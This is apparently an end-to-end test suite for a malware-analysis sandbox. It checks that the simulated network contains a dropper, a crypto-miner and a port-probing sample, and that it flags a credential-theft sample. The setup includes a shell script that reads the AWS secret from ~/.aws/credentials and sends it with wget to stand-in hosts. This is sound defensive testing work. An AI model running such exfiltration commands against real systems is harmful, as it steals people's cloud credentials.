import { execFileSync } from 'node:child_process';
import { gunzipSync } from 'node:zlib';
import { readFileSync, readdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import Docker from 'dockerode';
import type { NetCapture } from '#analysis/network/capture';
import { buildBusyboxImage } from '../support/busybox-image.js';
import { orphanSimulators } from '../support/netsim.js';
import { e2eProfilesDir } from '../support/profiles.js';
import { client, sandboxesLeft, type Stack, startStack, waitFor } from '../support/stack.js';

// The simulated network (issue 11, docs/network.md), end to end: real Docker, the real simulator,
// the real worker. Samples act on it (a dropper resolves, downloads and runs its payload; a miner
// logs in to a literal IP), they reach nothing but the simulator (the host's service ports and an
// outside address land on it; nothing leaves through the host's outbound interface), a simulator
// killed mid-run makes the run inconclusive, and nothing is left behind.
const docker = new Docker();
let stack: Stack;
let api: ReturnType<typeof client>;
const ids = new Set<string>();
let linksBefore: string[];

const HOST_PORTS = [22, 2375, 2376, 5000, 6379, 6384, 3000, 8080];

/** The host's own IPv4 addresses but loopback, bridge gateways included (docker0's 172.17.0.1 even while it is down). */
function hostAddresses(): string[] {
  const out = execFileSync('ip', ['-4', '-o', 'addr', 'show'], { encoding: 'utf8' })
    .split('\n')
    .map((l) => /\binet (\d+\.\d+\.\d+\.\d+)\//.exec(l)?.[1] ?? '')
    .filter((a) => a && !a.startsWith('127.'));
  return [...new Set(out)].sort();
}

function outboundInterface(): string {
  const route = execFileSync('ip', ['-4', 'route', 'show', 'default'], { encoding: 'utf8' });
  return /\bdev (\S+)/.exec(route)?.[1] ?? 'eth0';
}

function txPackets(dev: string): number {
  return Number(readFileSync(`/sys/class/net/${dev}/statistics/tx_packets`, 'utf8'));
}

function hostLinks(): string[] {
  return execFileSync('ip', ['-o', 'link', 'show'], { encoding: 'utf8' })
    .split('\n')
    .map((l) => /^\d+: ([^:@]+)/.exec(l)?.[1] ?? '')
    .filter(Boolean)
    .sort();
}

const seenSimulators = new Set<number>();

function isSimulator(pid: number): boolean {
  try {
    return readFileSync(`/proc/${pid}/cmdline`, 'utf8').includes('netsim.py');
  } catch {
    return false;
  }
}

/** The simulator serving an analysis (the runtime writes its pid beside the capture), if it still runs. */
function simulatorOf(id: string): number | undefined {
  let pid = 0;
  try {
    pid = Number(readFileSync(join(stack.artifactDir, id, 'netsim.pid'), 'utf8'));
  } catch {
    return undefined;
  }
  if (!(pid > 0) || !isSimulator(pid)) return undefined;
  seenSimulators.add(pid);
  return pid;
}

/** The simulator's capture as stored with the analysis (gzip; the raw file is removed once stored). */
function captures(id: string): NetCapture[] {
  const text = gunzipSync(readFileSync(join(stack.artifactDir, id, 'network.ndjson.gz'))).toString('utf8');
  return text
    .split('\n')
    .filter(Boolean)
    .map((l) => JSON.parse(l) as NetCapture);
}

const decode = (b64?: string) => Buffer.from(b64 ?? '', 'base64').toString('latin1');

beforeAll(async () => {
  linksBefore = hostLinks();
  const profiles = e2eProfilesDir('4s');
  const rules = join(process.cwd(), 'sandbox-profiles', 'rules', '*.yaml');
  writeFileSync(
    join(profiles, 'e2e-net.yaml'),
    ['name: e2e-net', 'runtime: runc', 'probe: ebpf', 'network: simulated', 'limits:', '  memory: 64m', '  pids: 128', '  window: 4s', '  output: 16k', 'rules:', `  - ${rules}`, ''].join('\n'),
  );
  // The isolation probe: every host address × service port, then an outside address, each told
  // `PING` (Redis answers +PONG, HTTP servers HTTP/1.x, sshd SSH-…; the simulator answers none of these).
  const targets = hostAddresses().flatMap((ip) => HOST_PORTS.map((p) => `${ip}:${p}`));
  // All at once (the simulator keeps a silent connection open, so each nc waits its 1 s).
  const script = [
    'for t in ' + targets.join(' ') + '; do',
    '  ( r=$(printf "PING\\r\\n" | busybox nc -w 2 ${t%:*} ${t#*:} 2>&1 | busybox head -c 200); echo "probe $t: $r" ) &',
    'done',
    'for i in 1 2 3 4 5 6 7 8 9 10; do ( printf "GET / HTTP/1.0\\r\\n\\r\\n" | busybox nc -w 1 1.1.1.1 80 >/dev/null 2>&1 ) & done',
    'wait',
    'echo "outside: done"',
  ].join('\n');
  buildBusyboxImage('quarantine-test/net-isolation:latest', ['sh', '-c', script]);
  buildBusyboxImage('quarantine-test/net-sleep:latest', ['sleep', '3']);
  // Steals the AWS secret where a real one would be (a planted lure) and sends it out twice: base64url
  // in a URL to a file-drop-looking host, and as is in a POST body.
  const exfil = [
    'k=$(busybox sed -n "s/^aws_secret_access_key *= *//p" "$HOME/.aws/credentials" | busybox head -n 1)',
    '[ -n "$k" ] || { echo "exfil: no key"; exit 0; }',
    'e=$(printf %s "$k" | busybox base64 | busybox tr -d "\\n=" | busybox tr "+/" "-_")',
    'busybox wget -q -O /dev/null "http://upload.files-drop.example/c?d=$e"',
    'busybox wget -q -O /dev/null --post-data "user=ops&secret=$k" "http://collector.example.org/submit"',
    'echo "exfil: sent"',
  ].join('\n');
  buildBusyboxImage('quarantine-test/net-exfil:latest', ['sh', '-c', exfil]);
  stack = await startStack({ db: 11, workers: 1, env: { PROFILES_DIR: profiles, WORKER_CONCURRENCY: '3' } });
  api = client(stack);
}, 60_000);

afterAll(async () => {
  await stack?.stop();
  // Only this suite's sandboxes: other suites may share the Docker engine.
  expect(await sandboxesLeft(ids)).toEqual([]);
  // No simulator (and so no namespace, no veth: they live and die with it), no new host interface.
  await waitFor(() => [...seenSimulators].every((p) => !isSimulator(p)) && orphanSimulators().length === 0, 5_000, () => 'simulators left behind');
  expect(hostLinks().filter((l) => !linksBefore.includes(l) && !l.startsWith('veth'))).toEqual([]);
});

async function submit(image: string, profile = 'e2e-net'): Promise<string> {
  const res = await api.submit({ image, profile });
  expect(res.status).toBe(202);
  ids.add(res.json.id);
  return res.json.id as string;
}

describe('simulated network', () => {
  it('lets samples act: a dropper downloads and runs its payload, a miner logs in to a literal IP; the host and the outside stay unreachable', async () => {
    const dev = outboundInterface();
    const txBefore = txPackets(dev);
    const [dropperId, minerId, isolationId, exfilId] = await Promise.all([
      submit('quarantine-samples/net-dropper:latest'),
      submit('quarantine-samples/net-miner:latest'),
      submit('quarantine-test/net-isolation:latest'),
      submit('quarantine-test/net-exfil:latest'),
    ]);
    const [dropper, miner, isolation, exfil] = await Promise.all([api.waitDone(dropperId), api.waitDone(minerId), api.waitDone(isolationId), api.waitDone(exfilId)]);
    const rulesOf = (a: { findings?: { rule: string }[] }) => (a.findings ?? []).map((f) => f.rule);
    const txAfter = txPackets(dev);
    for (const id of [dropperId, minerId, isolationId, exfilId]) {
      const pid = Number(readFileSync(join(stack.artifactDir, id, 'netsim.pid'), 'utf8'));
      expect(pid).toBeGreaterThan(0);
      seenSimulators.add(pid);
    }

    // Dropper: resolved its name, downloaded a binary-looking path, got the harmless ELF and ran it.
    expect({ status: dropper.status, error: dropper.error }).toEqual({ status: 'completed', error: null });
    const dreport = (await api.call('GET', `/v1/analyses/${dropperId}/report`)).json;
    expect(dreport.output).toMatchObject({ stdout: expect.stringContaining('quarantine-netsim: simulated payload') });
    expect(dreport.output.stdout).toContain('net-dropper: payload ran (0)');
    expect(dreport.run.network).toMatchObject({ mode: 'simulated', simulatorHealthy: true });
    const d = captures(dropperId);
    expect(d).toContainEqual(expect.objectContaining({ v: 1, kind: 'dns', transport: 'udp', dns: { name: 'cdn.update-check.example.net', type: 'A', answers: ['192.168.100.1'] } }));
    const get = d.find((c) => c.kind === 'http');
    expect(get).toMatchObject({
      transport: 'tcp',
      dst: { ip: '192.168.100.1', port: 80 },
      http: { method: 'GET', host: 'cdn.update-check.example.net', path: '/bins/agent.x86_64', userAgent: 'Wget', status: 200, served: 'elf', bodyBytes: 0 },
    });
    expect(get!.http!.servedSha256).toMatch(/^[0-9a-f]{64}$/);
    expect(decode(get!.firstBytes)).toMatch(/^GET \/bins\/agent\.x86_64 HTTP\/1\.1\r\n/);
    // … and the analysis says so: the downloaded file was executed.
    expect({ verdict: dropper.verdict, rules: rulesOf(dropper) }).toEqual({ verdict: expect.stringMatching(/^(suspicious|malicious)$/), rules: expect.arrayContaining(['Downloaded Executable Run']) });

    // Miner: the original destination (a literal IP, port 3333) and its stratum login, as sent.
    expect({ status: miner.status, error: miner.error }).toEqual({ status: 'completed', error: null });
    const m = captures(minerId).filter((c) => c.kind === 'tcp');
    expect(m).toHaveLength(1);
    expect(m[0]).toMatchObject({ transport: 'tcp', dst: { ip: '45.9.148.10', port: 3333 }, src: { ip: '192.168.100.2' } });
    const login = JSON.parse(decode(m[0].firstBytes)) as { method: string; params: { login: string; agent: string } };
    expect(login).toMatchObject({ method: 'login', params: { agent: expect.stringContaining('XMRig') } });
    expect(m[0].bytesIn).toBe(Buffer.from(m[0].firstBytes!, 'base64').length);
    expect({ verdict: miner.verdict, rules: rulesOf(miner) }).toEqual({ verdict: expect.stringMatching(/^(suspicious|malicious)$/), rules: expect.arrayContaining(['Stratum Mining Login']) });

    // Credential exfiltration: the planted lure was read, and its secret left in both encodings,
    // each finding naming the lure and where it went.
    expect(exfil.status).toBe('completed');
    const xreport = (await api.call('GET', `/v1/analyses/${exfilId}/report`)).json;
    expect(xreport.output.stdout).toContain('exfil: sent');
    expect({ verdict: exfil.verdict, rules: rulesOf(exfil) }).toEqual({ verdict: 'malicious', rules: expect.arrayContaining(['Credential Lure Read', 'Credential Lure Sent Out']) });
    const sent = (xreport.findings as { rule: string; output: string; evidence: unknown[] }[]).find((f) => f.rule === 'Credential Lure Sent Out')!;
    expect(sent.output).toMatch(/aws-credentials/);
    expect(JSON.stringify(sent.evidence)).toMatch(/upload\.files-drop\.example|collector\.example\.org/);

    // Isolation: every host service port and the outside address landed on the simulator (a record
    // with the sample's PING), none answered as the real service would, and nothing left the host.
    expect({ status: isolation.status, error: isolation.error }).toEqual({ status: 'completed', error: null });
    const ireport = (await api.call('GET', `/v1/analyses/${isolationId}/report`)).json;
    const stdout: string = ireport.output.stdout;
    expect(JSON.stringify({ out: ireport.output, exit: ireport.exit })).toContain('outside: done');
    expect(stdout).not.toMatch(/\+PONG|-NOAUTH|HTTP\/1\.[01]|SSH-2\.0|Docker-Distribution/);
    const iso = captures(isolationId);
    let pinged = 0;
    for (const ip of hostAddresses()) {
      for (const port of HOST_PORTS) {
        // Landed on the simulator, or failed in the sample (under load an nc can hit its own 2 s alarm
        // before it connects or writes) — never answered by anything else.
        const hits = iso.filter((c) => c.dst.ip === ip && c.dst.port === port).map((h) => ({ kind: h.kind, bytes: decode(h.firstBytes) }));
        const said = new RegExp(`^probe ${ip.replace(/\./g, '\\.')}:${port}: (.*)$`, 'm').exec(stdout)?.[1] ?? '';
        if (hits.length === 0) expect({ ip, port, said }).toEqual({ ip, port, said: expect.stringMatching(/timed out|unreachable|refused|can't connect/) });
        else expect({ ip, port, hits }).toEqual({ ip, port, hits: [{ kind: 'tcp', bytes: expect.stringMatching(/^(PING\r\n)?$/) }] });
        if (hits[0]?.bytes) pinged++;
      }
    }
    expect(pinged).toBeGreaterThanOrEqual(Math.ceil((hostAddresses().length * HOST_PORTS.length) / 2));
    expect(iso.filter((c) => c.dst.ip === '1.1.1.1' && c.dst.port === 80 && c.http?.method === 'GET')).toHaveLength(10);
    // Ten connections to 1.1.1.1 would be ≥ 10 SYNs out of the host; tolerate a little unrelated host traffic.
    expect(txAfter - txBefore).toBeLessThan(10);
  }, 90_000);

  it('makes a run whose simulator died mid-run inconclusive, never clean', async () => {
    const id = await submit('quarantine-test/net-sleep:latest');
    let pid: number | undefined;
    await waitFor(async () => {
      const a = (await api.call('GET', `/v1/analyses/${id}`)).json;
      pid = simulatorOf(id);
      return a.phase === 'observing' && pid !== undefined;
    }, 30_000, () => 'the analysis never reached observing with a simulator');
    process.kill(pid!, 'SIGKILL');
    const a = await api.waitDone(id);
    expect(a).toMatchObject({ status: 'completed', verdict: 'inconclusive' });
    const report = (await api.call('GET', `/v1/analyses/${id}/report`)).json;
    expect(report.run.network).toMatchObject({ mode: 'simulated', simulatorHealthy: false });
    expect(report.run.network.simulatorError).toMatch(/exited/);
    expect(report.scoring.reasons.join('\n')).toMatch(/network simulator failed/);
  }, 60_000);

  it('leaves no simulator behind when the worker is killed mid-run', async () => {
    const id = await submit('quarantine-test/net-sleep:latest');
    let pid: number | undefined;
    await waitFor(async () => (await api.call('GET', `/v1/analyses/${id}`)).json.phase === 'observing' && (pid = simulatorOf(id)) !== undefined, 30_000, () => 'never observing');
    const w = stack.workers[0];
    // The simulator was forked by the worker's zygote (a child of the worker).
    const parentOf = (p: number) => Number(readFileSync(`/proc/${p}/stat`, 'utf8').split(') ')[1]!.split(' ')[1]);
    const zygote = parentOf(pid!);
    expect(isSimulator(zygote)).toBe(true);
    expect(parentOf(zygote)).toBe(w.pid);
    w.kill('SIGKILL');
    await new Promise((r) => w.once('exit', r));
    // The zygote's pipe and every simulator's connection closed with the worker: they end themselves at once.
    await waitFor(() => !isSimulator(pid!) && !isSimulator(zygote) && orphanSimulators().length === 0, 5_000, () => `simulators still running: ${[pid, zygote, ...orphanSimulators()].join(', ')}`);
    // The orphaned sandbox container is the maintenance reaper's (and the next attempt's) to remove.
    const c = await docker.listContainers({ all: true, filters: { label: [`org.quarantine.analysis-id=${id}`] } });
    for (const x of c) await docker.getContainer(x.Id).remove({ force: true });
  }, 60_000);
});
